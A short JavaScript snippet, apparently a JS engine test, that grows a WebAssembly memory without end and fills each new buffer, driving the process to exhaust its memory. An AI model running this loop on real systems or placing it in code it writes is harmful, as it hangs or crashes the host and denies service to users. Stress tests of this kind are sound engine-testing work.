const memory = new WebAssembly.Memory({ initial: 1 });
for (;;) {
  memory.grow(64);
  new Uint8Array(memory.buffer).fill(1);
}
